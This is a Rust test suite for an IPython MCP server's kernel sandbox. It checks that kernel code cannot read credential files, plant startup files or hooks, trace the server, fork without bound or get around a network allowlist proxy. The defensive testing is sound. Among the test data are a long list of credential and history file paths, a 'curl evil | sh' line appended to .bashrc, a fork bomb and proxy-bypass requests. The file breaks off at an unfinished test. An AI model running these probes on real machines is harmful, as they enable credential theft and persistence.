//! End to end, as an attacker would: kernel code (and a process it starts) under the
//! `workspace-write` sandbox tries to read secrets, write outside the workspace, read the
//! server's environment, signal and trace the server; each try fails, the next call works,
//! and `runtime_status` says what is enforced.

use std::path::{Path, PathBuf};

use crate::support;

use serde_json::json;
use support::{Family, Server};

/// Secret files under a HOME the test makes (never the machine's own): one in or at every
/// entry of the default deny list (checked by the test).
const SECRETS: &[&str] = &[
    ".ssh/id_ed25519",
    ".gnupg/private-keys-v1.d/key.key",
    ".password-store/bank.gpg",
    ".local/share/keyrings/login.keyring",
    ".config/op/config",
    ".aws/credentials",
    ".azure/msal_token_cache.json",
    ".config/gcloud/credentials.db",
    ".oci/config",
    ".kube/config",
    ".docker/config.json",
    ".config/containers/auth.json",
    ".terraform.d/credentials.tfrc.json",
    ".vault-token",
    ".s3cfg",
    ".boto",
    ".config/rclone/rclone.conf",
    ".config/doctl/config.yaml",
    ".netrc",
    ".git-credentials",
    ".config/git/credentials",
    ".config/gh/hosts.yml",
    ".config/hub",
    ".config/glab-cli/config.yml",
    ".pypirc",
    ".npmrc",
    ".yarnrc.yml",
    ".cargo/credentials.toml",
    ".cargo/credentials",
    ".gem/credentials",
    ".m2/settings.xml",
    ".m2/settings-security.xml",
    ".gradle/gradle.properties",
    ".pgpass",
    ".my.cnf",
    ".claude/.credentials.json",
    ".claude.json",
    ".codex/auth.json",
    ".config/github-copilot/apps.json",
    ".Xauthority",
    ".mozilla/firefox/p.default/logins.json",
    ".thunderbird/p.default/logins.json",
    ".config/google-chrome/Default/Cookies",
    ".config/chromium/Default/Cookies",
    ".config/BraveSoftware/Brave-Browser/Default/Cookies",
    ".config/microsoft-edge/Default/Cookies",
    ".bash_history",
    ".zsh_history",
    ".sh_history",
    ".history",
    ".local/share/fish/fish_history",
    ".python_history",
    ".node_repl_history",
    ".psql_history",
    ".mysql_history",
    ".sqlite_history",
    ".rediscli_history",
];

/// The deny list's entries not in [`SECRETS`]: each is there to be tried.
fn untried_entries() -> Vec<&'static str> {
    ipython_mcp_sandbox::DEFAULT_DENIED_UNDER_HOME
        .iter()
        .copied()
        .filter(|entry| {
            !SECRETS
                .iter()
                .any(|secret| std::path::Path::new(secret).starts_with(entry))
        })
        .collect()
}

/// Variables that lead to the user's agents, as a desktop session has them.
const AGENT_VARIABLES: [&str; 4] = [
    "SSH_AUTH_SOCK",
    "GPG_AGENT_INFO",
    "DBUS_SESSION_BUS_ADDRESS",
    "DISPLAY",
];

/// A directory for one test, outside the system temp directory (which kernels may write).
fn private_dir(name: &str) -> tempfile::TempDir {
    let base = Path::new(env!("CARGO_TARGET_TMPDIR")).join("sandbox");
    std::fs::create_dir_all(&base).expect("sandbox test dir");
    tempfile::Builder::new()
        .prefix(name)
        .tempdir_in(base)
        .expect("tempdir")
}

struct Setup {
    home: tempfile::TempDir,
    workspace: tempfile::TempDir,
    outside: tempfile::TempDir,
    /// The ssh-agent the server's environment names: a listening socket outside the
    /// workspace (kept open while the test runs).
    _agent: (tempfile::TempDir, std::os::unix::net::UnixListener),
    server: Server,
}

async fn sandboxed(mode: &str) -> Setup {
    sandboxed_with(mode, "on").await
}

async fn sandboxed_with(mode: &str, network: &str) -> Setup {
    if !cfg!(target_os = "linux") {
        panic!("the sandbox tests run on Linux");
    }
    let home = private_dir("home");
    for secret in SECRETS {
        let path = home.path().join(secret);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, format!("SECRET {secret}\n")).expect("write secret");
    }
    std::fs::write(home.path().join("notes.txt"), "readable\n").expect("notes");
    let workspace = private_dir("workspace");
    let outside = private_dir("outside");
    std::fs::write(outside.path().join("data.txt"), "outside data\n").expect("data");
    let agent_dir = private_dir("agent");
    let agent_path = agent_dir.path().join("agent.sock");
    let agent = std::os::unix::net::UnixListener::bind(&agent_path).expect("agent socket");
    let agent_path = agent_path.to_str().expect("utf-8").to_owned();
    let bus = format!("unix:path={agent_path}");
    let server = Server::start(
        Family::Modern,
        &[
            ("IPYTHON_MCP_SANDBOX", mode),
            ("IPYTHON_MCP_SANDBOX_NETWORK", network),
            ("HOME", home.path().to_str().expect("utf-8")),
            (
                "IPYTHON_MCP_WORKSPACE_ROOT",
                workspace.path().to_str().expect("utf-8"),
            ),
            ("SSH_AUTH_SOCK", &agent_path),
            ("GPG_AGENT_INFO", &format!("{agent_path}:0:1")),
            ("DBUS_SESSION_BUS_ADDRESS", &bus),
            ("DISPLAY", ":0"),
        ],
    )
    .await;
    Setup {
        home,
        workspace,
        outside,
        _agent: (agent_dir, agent),
        server,
    }
}

/// Python that prints which of [`AGENT_VARIABLES`] the kernel has, and which a process it
/// starts has (an empty line for none).
fn agent_variables_seen() -> String {
    format!(
        "import os, subprocess, sys\nnames = {AGENT_VARIABLES:?}\nprint(' '.join(n for n in names if n in os.environ))\nprint(subprocess.run([sys.executable, '-c', 'import os; print(\" \".join(n for n in {AGENT_VARIABLES:?} if n in os.environ))'], capture_output=True, text=True).stdout, end='')"
    )
}

/// Python that tries to read each of [`SECRETS`] under `home`, from kernel code and with `cat`
/// in a process it starts, and prints `<secret> <kernel> <subprocess>`, each `read` or
/// `denied`.
fn read_secrets(home: &Path) -> String {
    let paths: Vec<String> = SECRETS
        .iter()
        .map(|secret| home.join(secret).to_str().expect("utf-8").to_owned())
        .collect();
    format!(
        "import subprocess\nfor secret, path in zip({SECRETS:?}, {paths:?}):\n    try:\n        kernel = 'read' if 'SECRET' in open(path).read() else 'other'\n    except OSError:\n        kernel = 'denied'\n    r = subprocess.run(['cat', path], capture_output=True, text=True)\n    child = 'read' if r.returncode == 0 and 'SECRET' in r.stdout else 'denied'\n    print(secret, kernel, child)\n"
    )
}

/// Runs `code` in the default kernel and returns what it printed, checking the call worked.
async fn run(server: &Server, code: &str) -> String {
    let result = server.call("execute", json!({ "code": code })).await;
    assert!(result.ok(), "{code}\n{result:?}");
    result.structured["stdout"]
        .as_str()
        .expect("stdout")
        .to_owned()
}

/// Python that tries `attempt` (an expression or statement) and prints `denied <label>` when
/// the OS refuses it, `allowed <label>` otherwise.
fn try_it(label: &str, attempt: &str) -> String {
    format!(
        "try:\n    {attempt}\n    print('allowed {label}')\nexcept (PermissionError, OSError) as e:\n    print('denied {label}', type(e).__name__)\n"
    )
}

fn path_literal(path: &Path) -> String {
    format!("{:?}", path.to_str().expect("utf-8"))
}

#[tokio::test]
async fn kernel_code_cannot_reach_secrets_the_server_or_files_outside_the_workspace() {
    let setup = sandboxed("workspace-write").await;
    let server = &setup.server;
    let status = server.call("runtime_status", json!({})).await;
    let sandbox = &status.structured["kernel"]["sandbox"];
    assert_eq!(sandbox["mode"], "workspace-write", "{status:?}");
    assert_eq!(sandbox["enforced"], true, "{sandbox}");
    let mechanisms = sandbox["mechanisms"].to_string();
    for mechanism in ["landlock", "seccomp", "no_new_privs"] {
        assert!(mechanisms.contains(mechanism), "{sandbox}");
    }
    // The capabilities resource says the same.
    let capabilities = server
        .client
        .read_resource(rmcp::model::ReadResourceRequestParams::new(
            "ipython-mcp://capabilities",
        ))
        .await
        .expect("capabilities");
    let capabilities: serde_json::Value = match &capabilities.contents[0] {
        rmcp::model::ResourceContents::TextResourceContents { text, .. } => {
            serde_json::from_str(text).expect("capabilities JSON")
        }
        other => panic!("{other:?}"),
    };
    let declared = &capabilities["sandbox"];
    assert_eq!(declared["mode"], "workspace-write", "{declared}");
    assert_eq!(declared["explicit"], true, "{declared}");
    assert_eq!(declared["enforced"], true, "{declared}");

    // Secrets: from kernel code, and from a process it starts; every entry of the deny list
    // is tried.
    assert_eq!(untried_entries(), Vec::<&str>::new());
    let printed = run(server, &read_secrets(setup.home.path())).await;
    let expected: String = SECRETS
        .iter()
        .map(|secret| format!("{secret} denied denied\n"))
        .collect();
    assert_eq!(printed, expected);
    // Nor the variables that lead to the user's agents (ssh-agent would sign with the keys
    // the deny list keeps from it).
    assert_eq!(run(server, &agent_variables_seen()).await, "\n\n");
    // The rest of HOME, and files outside the workspace, are readable.
    let notes = path_literal(&setup.home.path().join("notes.txt"));
    let outside_data = path_literal(&setup.outside.path().join("data.txt"));
    assert_eq!(
        run(server, &format!("print(open({notes}).read().strip())")).await,
        "readable\n"
    );
    assert_eq!(
        run(
            server,
            &format!("print(open({outside_data}).read().strip())")
        )
        .await,
        "outside data\n"
    );

    // Writes: the workspace and the temp directory yes; outside, HOME, a secret no.
    let inside = path_literal(&setup.workspace.path().join("made.txt"));
    let printed = run(
        server,
        &try_it("workspace", &format!("open({inside}, 'w').write('x')")),
    )
    .await;
    assert!(printed.starts_with("allowed workspace"), "{printed}");
    assert!(setup.workspace.path().join("made.txt").exists());
    let printed = run(
        server,
        &try_it(
            "temp",
            "import tempfile; tempfile.NamedTemporaryFile().write(b'x')",
        ),
    )
    .await;
    assert!(printed.starts_with("allowed temp"), "{printed}");
    for (label, target) in [
        ("outside", setup.outside.path().join("written.txt")),
        ("home", setup.home.path().join("written.txt")),
        ("ssh", setup.home.path().join(".ssh/authorized_keys")),
    ] {
        let path = path_literal(&target);
        let printed = run(
            server,
            &try_it(label, &format!("open({path}, 'w').write('x')")),
        )
        .await;
        assert!(printed.starts_with(&format!("denied {label}")), "{printed}");
        assert!(!target.exists(), "{label} was written");
        let printed = run(
            server,
            &format!(
                "import subprocess\nprint(subprocess.run(['sh', '-c', 'echo x > {}'], capture_output=True).returncode)",
                target.display()
            ),
        )
        .await;
        assert_ne!(printed.trim(), "0", "a subprocess wrote {label}");
        assert!(!target.exists(), "{label} was written by a subprocess");
    }

    // The server: its environment, its signals, tracing it.
    let pid = server.pid;
    let printed = run(
        server,
        &try_it(
            "environ",
            &format!("open('/proc/{pid}/environ', 'rb').read()"),
        ),
    )
    .await;
    assert!(printed.starts_with("denied environ"), "{printed}");
    let printed = run(
        server,
        &try_it("signal", &format!("import os; os.kill({pid}, 0)")),
    )
    .await;
    assert!(printed.starts_with("denied signal"), "{printed}");
    let printed = run(
        server,
        &format!(
            "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.ptrace(16, {pid}, None, None), os.strerror(ctypes.get_errno()))"
        ),
    )
    .await;
    assert!(printed.starts_with("-1"), "ptrace attached: {printed}");
    let printed = run(
        server,
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.mount(b'none', b'/mnt', b'tmpfs', 0, None), ctypes.get_errno())",
    )
    .await;
    assert!(printed.starts_with("-1"), "mount worked: {printed}");

    // The kernel's own /proc entry still works, and the session is whole.
    let printed = run(server, "print(len(open('/proc/self/status').read()) > 0)").await;
    assert_eq!(printed, "True\n");
    run(server, "kept = 41").await;
    assert_eq!(run(server, "print(kept + 1)").await, "42\n");
    let after = server.call("runtime_status", json!({})).await;
    assert_eq!(after.structured["epoch"], status.structured["epoch"]);
}

#[tokio::test]
async fn read_only_writes_nothing_but_the_temp_directory() {
    let setup = sandboxed("read-only").await;
    let server = &setup.server;
    let status = server.call("runtime_status", json!({})).await;
    assert_eq!(status.structured["kernel"]["sandbox"]["mode"], "read-only");
    let inside: PathBuf = setup.workspace.path().join("made.txt");
    let printed = run(
        server,
        &try_it(
            "workspace",
            &format!("open({}, 'w').write('x')", path_literal(&inside)),
        ),
    )
    .await;
    assert!(printed.starts_with("denied workspace"), "{printed}");
    assert!(!inside.exists());
    let printed = run(
        server,
        &try_it(
            "temp",
            "import tempfile; tempfile.NamedTemporaryFile().write(b'x')",
        ),
    )
    .await;
    assert!(printed.starts_with("allowed temp"), "{printed}");
}

/// A server started in HOME makes HOME the workspace: kernel code must still not write what
/// the user runs later outside the sandbox (a shell start-up file, a git hook, an editor's
/// settings), while the rest of HOME stays writable. The same tries succeed with the sandbox
/// off (control).
#[tokio::test]
async fn kernel_code_cannot_plant_what_runs_outside_the_sandbox_in_a_writable_home() {
    if !cfg!(target_os = "linux") {
        panic!("the sandbox tests run on Linux");
    }
    for mode in ["workspace-write", "off"] {
        let home = private_dir("home");
        std::fs::create_dir_all(home.path().join(".ssh")).expect("mkdir");
        std::fs::write(home.path().join(".ssh/id_ed25519"), "SECRET\n").expect("secret");
        std::fs::create_dir_all(home.path().join(".git/hooks")).expect("mkdir");
        std::fs::create_dir_all(home.path().join(".vscode")).expect("mkdir");
        for file in [".bashrc", ".profile", "notes.txt"] {
            std::fs::write(home.path().join(file), "# mine\n").expect("write");
        }
        let root = home.path().to_str().expect("utf-8");
        let server = Server::start(
            Family::Modern,
            &[
                ("IPYTHON_MCP_SANDBOX", mode),
                ("HOME", root),
                ("IPYTHON_MCP_WORKSPACE_ROOT", root),
            ],
        )
        .await;
        let mut code = String::new();
        for (label, attempt) in [
            (
                "bashrc",
                "open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')",
            ),
            (
                "profile",
                "os.replace(os.path.expanduser('~/notes.txt'), os.path.expanduser('~/.profile'))",
            ),
            (
                "hook",
                "open(os.path.expanduser('~/.git/hooks/pre-commit'), 'w').write('#!/bin/sh\\n')",
            ),
            (
                "vscode",
                "open(os.path.expanduser('~/.vscode/tasks.json'), 'w').write('{}')",
            ),
        ] {
            code.push_str(&try_it(label, attempt));
        }
        let printed = run(&server, &format!("import os\n{code}")).await;
        let bashrc = std::fs::read_to_string(home.path().join(".bashrc")).expect("bashrc");
        if mode == "off" {
            assert_eq!(printed.matches("allowed").count(), 4, "control: {printed}");
            assert!(bashrc.contains("evil"), "control: {bashrc}");
        } else {
            assert_eq!(printed.matches("denied").count(), 4, "{printed}");
            assert_eq!(bashrc, "# mine\n");
            assert!(!home.path().join(".git/hooks/pre-commit").exists());
            assert!(!home.path().join(".vscode/tasks.json").exists());
            // Still readable, and the rest of HOME still writable.
            let printed = run(
                &server,
                "import os\nprint(open(os.path.expanduser('~/.bashrc')).read().strip())\n\
                 open(os.path.expanduser('~/notes.txt'), 'a').write('more\\n')\nprint('wrote')",
            )
            .await;
            assert_eq!(printed, "# mine\nwrote\n");
            let status = server.call("runtime_status", json!({})).await;
            let limits = status.structured["kernel"]["sandbox"]["limits"].to_string();
            assert!(limits.contains(".bashrc"), "{limits}");
        }
        server.stop().await;
    }
}

#[tokio::test]
async fn off_runs_the_kernel_unconfined_and_says_so() {
    let setup = sandboxed("off").await;
    let status = setup.server.call("runtime_status", json!({})).await;
    let sandbox = &status.structured["kernel"]["sandbox"];
    assert_eq!(sandbox["mode"], "off", "{status:?}");
    assert_eq!(sandbox["enforced"], false);
    // Every secret the sandbox keeps out is there to read, and the agents' variables too:
    // what the sandboxed kernel was refused, it would otherwise have had.
    let printed = run(&setup.server, &read_secrets(setup.home.path())).await;
    let expected: String = SECRETS
        .iter()
        .map(|secret| format!("{secret} read read\n"))
        .collect();
    assert_eq!(printed, expected);
    let everything = AGENT_VARIABLES.join(" ");
    assert_eq!(
        run(&setup.server, &agent_variables_seen()).await,
        format!("{everything}\n{everything}\n")
    );
}

/// Python that connects by TCP to `tcp` and sends a datagram to `udp`, printing what the OS
/// said of each: from kernel code and from a `python -c` it starts.
fn reach(tcp: u16, udp: u16) -> String {
    let attempt = r#"import socket
def tcp():
    s = socket.create_connection(('127.0.0.1', TCP), timeout=30); s.close()
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'ping', ('127.0.0.1', UDP)); s.close()
def listen():
    s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); s.close()
for name, f in [('tcp', tcp), ('udp', udp), ('listen', listen)]:
    try:
        f(); print('allowed', name)
    except OSError as e:
        print('denied', name, type(e).__name__)
"#
    .replace("TCP", &tcp.to_string())
    .replace("UDP", &udp.to_string());
    format!(
        "{attempt}import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', {attempt:?}], capture_output=True, text=True).stdout, end='')"
    )
}

#[tokio::test]
async fn without_network_no_connection_or_datagram_leaves_the_kernel() {
    let tcp = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("tcp");
    let udp = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("udp");
    let (tcp_port, udp_port) = (
        tcp.local_addr().expect("addr").port(),
        udp.local_addr().expect("addr").port(),
    );
    let offline = sandboxed_with("workspace-write", "off").await;
    let status = offline.server.call("runtime_status", json!({})).await;
    let sandbox = &status.structured["kernel"]["sandbox"];
    assert_eq!(sandbox["network"], "off", "{sandbox}");
    assert!(
        sandbox["mechanisms"]
            .to_string()
            .contains("landlock network"),
        "{sandbox}"
    );
    let printed = run(&offline.server, &reach(tcp_port, udp_port)).await;
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(lines.len(), 6, "{printed}");
    for line in &lines {
        assert!(line.starts_with("denied"), "{printed}");
    }
    // Nor through a socket of another family: to the host of a virtual machine (vsock),
    // Bluetooth, CAN, TIPC.
    let printed = run(
        &offline.server,
        "import errno, socket\nfor name, family, kind in [('AF_VSOCK', 40, 1), ('AF_BLUETOOTH', 31, 1), ('AF_CAN', 29, 3), ('AF_TIPC', 30, 1), ('AF_ALG', 38, 5)]:\n    try:\n        socket.socket(family, kind).close()\n        print(name, 'made')\n    except OSError as e:\n        print(name, errno.errorcode[e.errno])\n",
    )
    .await;
    assert_eq!(
        printed,
        "AF_VSOCK EPERM\nAF_BLUETOOTH EPERM\nAF_CAN EPERM\nAF_TIPC EPERM\nAF_ALG EPERM\n"
    );
    // The kernel's own channel still works.
    assert_eq!(run(&offline.server, "print(6 * 7)").await, "42\n");

    // The same code with the network on reaches both: the attempts above could succeed.
    let online = sandboxed_with("workspace-write", "on").await;
    let printed = run(&online.server, &reach(tcp_port, udp_port)).await;
    assert!(
        printed.lines().all(|line| line.starts_with("allowed")),
        "{printed}"
    );
    let mut buffer = [0u8; 16];
    let received = tokio::time::timeout(std::time::Duration::from_secs(60), udp.recv(&mut buffer))
        .await
        .expect("the datagram arrives")
        .expect("recv");
    assert_eq!(&buffer[..received], b"ping");
}

/// A loopback HTTP server that answers every request with `hello`.
pub(crate) async fn hello_server() -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("listen");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buffer = [0u8; 4096];
                let _ = stream.read(&mut buffer).await;
                let _ = stream
                    .write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
                    )
                    .await;
            });
        }
    });
    port
}

#[tokio::test]
async fn an_allowlist_lets_listed_hosts_through_the_proxy_and_nothing_else_out() {
    let port = hello_server().await;
    // The loopback server is listed by its address and port: a name that resolves to a
    // loopback address is not enough (see the next test).
    let listed = format!("127.0.0.1:{port}");
    let setup = sandboxed_with(
        "workspace-write",
        &format!("{listed},pypi.org,files.pythonhosted.org"),
    )
    .await;
    let server = &setup.server;
    let status = server.call("runtime_status", json!({})).await;
    let sandbox = &status.structured["kernel"]["sandbox"];
    assert_eq!(sandbox["network"], "allowlist", "{sandbox}");
    assert_eq!(
        sandbox["hosts"],
        json!([listed, "pypi.org", "files.pythonhosted.org"])
    );
    let fetch = |url: String| {
        format!(
            "import urllib.request, urllib.error\ntry:\n    print('body', urllib.request.urlopen({url:?}, timeout=60).read().decode())\nexcept urllib.error.HTTPError as e:\n    print('refused', e.code, e.read().decode().strip())\n"
        )
    };
    // A listed host, through the proxy.
    let printed = run(server, &fetch(format!("http://127.0.0.1:{port}/x"))).await;
    assert_eq!(printed, "body hello\n");
    // The same server under a name that is not listed: refused by the proxy, with the reason.
    let printed = run(server, &fetch(format!("http://localhost:{port}/x"))).await;
    assert!(printed.starts_with("refused 403"), "{printed}");
    assert!(
        printed.contains("not in the kernels' network allowlist"),
        "{printed}"
    );
    // Around the proxy: a direct connection, from the kernel and from a subprocess.
    let direct = format!(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=30)\n    print('allowed')\nexcept OSError as e:\n    print('denied', type(e).__name__)\n"
    );
    assert!(run(server, &direct).await.starts_with("denied"));
    let printed = run(
        server,
        &format!(
            "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', {direct:?}], capture_output=True, text=True).stdout, end='')"
        ),
    )
    .await;
    assert!(printed.starts_with("denied"), "{printed}");
    // pip through the proxy, from PyPI.
    let target = setup.workspace.path().join("wheels");
    let printed = run(
        server,
        &format!(
            "import subprocess, sys\nr = subprocess.run([sys.executable, '-m', 'pip', 'download', '--no-deps', '--disable-pip-version-check', '-d', {:?}, 'six==1.16.0'], capture_output=True, text=True)\nprint(r.returncode)\nprint(r.stderr[-2000:])",
            target.to_str().expect("utf-8")
        ),
    )
    .await;
    assert!(
        printed.starts_with("0\n"),
        "pip through the proxy: {printed}"
    );
    let downloaded: Vec<_> = std::fs::read_dir(&target)
        .expect("wheels")
        .flatten()
        .collect();
    assert_eq!(downloaded.len(), 1, "{downloaded:?}");
}

/// Python that sends each `(label, request line)` of `requests` to the kernel's proxy and
/// prints `label status last-line`: the refusal's reason, or what the server behind a tunnel
/// answered (its last line).
fn ask_proxy(requests: &[(&str, String)]) -> String {
    let requests: Vec<String> = requests
        .iter()
        .map(|(label, line)| format!("({label:?}, {line:?})"))
        .collect();
    format!(
        r#"import os, socket
proxy_host, proxy_port = os.environ['HTTP_PROXY'].rsplit('/', 1)[1].split(':')
for label, line in [{}]:
    with socket.create_connection((proxy_host, int(proxy_port)), timeout=60) as s:
        s.sendall(line.encode() + b'\r\n\r\n')
        data = b''
        while b'\r\n\r\n' not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        status = data.split(b' ', 2)[1].decode() if data else 'closed'
        if status == '200' and line.startswith('CONNECT'):
            s.sendall(b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')
        rest = data.split(b'\r\n\r\n', 1)[1] if b'\r\n\r\n' in data else b''
        while chunk := s.recv(4096):
            rest += chunk
        lines = rest.decode().strip().splitlines()
        print(label, status, lines[-1] if lines else '')
"#,
        requests.join(", ")
    )
}

/// Kernel code asks its proxy for listed hosts on ports their entries do not name, for a listed
/// name that resolves to a loopback address (as a name rebound to a local service would), and
/// with hosts spelled to trick a matcher. Each is refused with the reason; the same loopback
/// server is reached when its address and port are listed.
#[tokio::test]
async fn an_allowlist_reaches_listed_ports_only_and_local_addresses_only_when_listed() {
    let unlisted = hello_server().await;
    let listed = hello_server().await;
    let setup = sandboxed_with(
        "workspace-write",
        &format!(
            "localhost:{unlisted},localhost:{listed},127.0.0.1:{listed},pypi.org,*.pythonhosted.org"
        ),
    )
    .await;
    let printed = run(
        &setup.server,
        &ask_proxy(&[
            ("rebound", format!("CONNECT localhost:{unlisted} HTTP/1.1")),
            (
                "rebound-http",
                format!("GET http://localhost:{unlisted}/ HTTP/1.1"),
            ),
            (
                "address-port",
                format!("CONNECT 127.0.0.1:{unlisted} HTTP/1.1"),
            ),
            ("ssh", "CONNECT pypi.org:22 HTTP/1.1".to_owned()),
            ("ssh-http", "GET http://pypi.org:22/ HTTP/1.1".to_owned()),
            (
                "empty-label",
                "CONNECT .pythonhosted.org:443 HTTP/1.1".to_owned(),
            ),
            (
                "user-part",
                format!("CONNECT pypi.org@127.0.0.1:{listed} HTTP/1.1"),
            ),
            ("by-address", format!("CONNECT 127.0.0.1:{listed} HTTP/1.1")),
            ("by-name", format!("CONNECT localhost:{listed} HTTP/1.1")),
        ]),
    )
    .await;
    let answers: std::collections::HashMap<&str, &str> = printed
        .lines()
        .filter_map(|line| line.split_once(' '))
        .collect();
    let answer = |label: &str| {
        *answers
            .get(label)
            .unwrap_or_else(|| panic!("{label}: {printed}"))
    };
    for label in ["rebound", "rebound-http"] {
        let answer = answer(label);
        assert!(
            answer.starts_with("403 ipython-mcp: localhost resolves to")
                && answer.contains("a loopback address"),
            "{label}: {answer}"
        );
    }
    assert!(
        answer("address-port").starts_with(&format!(
            "403 ipython-mcp: port {unlisted} is not allowed for 127.0.0.1"
        )),
        "{printed}"
    );
    for label in ["ssh", "ssh-http"] {
        assert!(
            answer(label).starts_with("403 ipython-mcp: port 22 is not allowed for pypi.org"),
            "{label}: {printed}"
        );
    }
    for label in ["empty-label", "user-part"] {
        assert!(answer(label).starts_with("400 "), "{label}: {printed}");
    }
    // The control: listed by its address and port, the same kind of server is reached, by its
    // address and by the name that resolves to it.
    assert_eq!(answer("by-address"), "200 hello", "{printed}");
    assert_eq!(answer("by-name"), "200 hello", "{printed}");
}

#[tokio::test]
async fn a_fork_bomb_stops_at_the_process_bound_and_the_kernel_goes_on() {
    let home = private_dir("home");
    let workspace = private_dir("workspace");
    let server = Server::start(
        Family::Modern,
        &[
            ("IPYTHON_MCP_SANDBOX", "workspace-write"),
            ("IPYTHON_MCP_SANDBOX_MAX_PROCESSES", "64"),
            ("HOME", home.path().to_str().expect("utf-8")),
            (
                "IPYTHON_MCP_WORKSPACE_ROOT",
                workspace.path().to_str().expect("utf-8"),
            ),
        ],
    )
    .await;
    let status = server.call("runtime_status", json!({})).await;
    let sandbox = &status.structured["kernel"]["sandbox"];
    if !sandbox["mechanisms"].to_string().contains("pids.max 64") {
        // Where no pids cgroup can be made, the status says so; CI's machine can make one.
        assert!(
            std::env::var_os("CI").is_none(),
            "no process bound: {sandbox}"
        );
        assert!(
            sandbox["limits"]
                .to_string()
                .contains("no bound on the kernel's processes"),
            "{sandbox}"
        );
        return;
    }
    let bomb = "import os, time\nchildren = []\ntry:\n    for _ in range(500):\n        pid = os.fork()\n        if pid == 0:\n            time.sleep(120)\n            os._exit(0)\n        children.append(pid)\n    print('unbounded', len(children))\nexcept OSError as e:\n    print('bounded', len(children), type(e).__name__)\nfinally:\n    for pid in children:\n        os.kill(pid, 9)\n        os.waitpid(pid, 0)\n";
    let printed = run(&server, bomb).await;
    let mut words = printed.split_whitespace();
    assert_eq!(words.next(), Some("bounded"), "{printed}");
    let forked: usize = words.next().and_then(|n| n.parse().ok()).expect("a count");
    assert!(forked < 64, "{printed}");
    // The bound holds for a subprocess's children too, and the kernel goes on.
    run(&server, "kept = 'still here'").await;
    assert_eq!(run(&server, "print(kept)").await, "still here\n");
    let after = server.call("runtime_status", json!({})).await;
    assert_eq!(after.structured["epoch"], status.structured["epoch"]);
}

/// A pseudo-terminal the test holds: its master, and its slave in raw mode (what is typed
/// into it stays in its input queue, unechoed, for [`Pty::typed`] to count).
struct Pty {
    _master: std::os::fd::OwnedFd,
    slave: std::os::fd::OwnedFd,
    path: String,
}

impl Pty {
    fn open() -> Pty {
        use std::os::fd::FromRawFd as _;
        // SAFETY: libc's pseudo-terminal calls on descriptors this function owns, and a name
        // buffer it passes with its length.
        unsafe {
            let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
            assert!(master >= 0, "posix_openpt");
            let master = std::os::fd::OwnedFd::from_raw_fd(master);
            let master_fd = std::os::fd::AsRawFd::as_raw_fd(&master);
            assert_eq!(libc::grantpt(master_fd), 0, "grantpt");
            assert_eq!(libc::unlockpt(master_fd), 0, "unlockpt");
            let mut name = [0 as libc::c_char; 128];
            assert_eq!(libc::ptsname_r(master_fd, name.as_mut_ptr(), name.len()), 0);
            let slave = libc::open(
                name.as_ptr(),
                libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC,
            );
            assert!(slave >= 0, "open the slave");
            let slave = std::os::fd::OwnedFd::from_raw_fd(slave);
            let mut termios = std::mem::zeroed::<libc::termios>();
            assert_eq!(libc::tcgetattr(slave.as_raw_fd(), &mut termios), 0);
            libc::cfmakeraw(&mut termios);
            assert_eq!(
                libc::tcsetattr(slave.as_raw_fd(), libc::TCSANOW, &termios),
                0
            );
            let path = std::ffi::CStr::from_ptr(name.as_ptr())
                .to_str()
                .expect("utf-8")
                .to_owned();
            Pty {
                _master: master,
                slave,
                path,
            }
        }
    }

    /// Makes the terminal the controlling terminal of the process `command` starts, as a
    /// user's terminal is of the server they start from their shell.
    fn control(&self, command: &mut tokio::process::Command) {
        let slave = self.slave.as_raw_fd();
        // SAFETY: setsid and ioctl in the forked child, both async-signal-safe; the slave is
        // open until the spawn returns.
        unsafe {
            command.pre_exec(move || {
                if libc::setsid() < 0 || libc::ioctl(slave, libc::TIOCSCTTY, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }

    /// How many bytes wait in the terminal's input, typed by no one but the kernel.
    fn typed(&self) -> i32 {
        let mut waiting: libc::c_int = 0;
        // SAFETY: FIONREAD writes an int.
        let done = unsafe { libc::ioctl(self.slave.as_raw_fd(), libc::FIONREAD, &mut waiting) };
        assert_eq!(done, 0, "FIONREAD");
        waiting
    }
}

use std::os::fd::AsRawFd as _;

/// A server started from a terminal (it is the server's controlling terminal): its kernels
/// are in sessions of their own, so `/dev/tty` is no terminal of theirs, and the filter
/// refuses to type into any terminal they open. Nothing reaches the terminal's input.
#[tokio::test]
async fn kernel_code_cannot_type_into_the_servers_terminal() {
    let (server, kernel, _terminal) = type_into_the_terminal(&[]).await;
    // The kernel leads its own session (its pid is the one signals reach), and has no
    // controlling terminal to open.
    // SAFETY: getsid has no memory-safety preconditions.
    assert_eq!(unsafe { libc::getsid(kernel) }, kernel);
    assert_eq!(
        run(
            &server,
            "import os\ntry:\n    os.open('/dev/tty', os.O_RDWR)\n    print('a terminal')\nexcept OSError as e:\n    print(e.strerror)"
        )
        .await,
        "No such device or address\n"
    );
}

/// The same under the pipe death watch (how kernels die with the server off Linux), where the
/// kernel joins its watcher's process group in the server's session and gives the terminal up
/// instead.
#[tokio::test]
async fn kernel_code_cannot_type_into_the_servers_terminal_under_the_pipe_watch() {
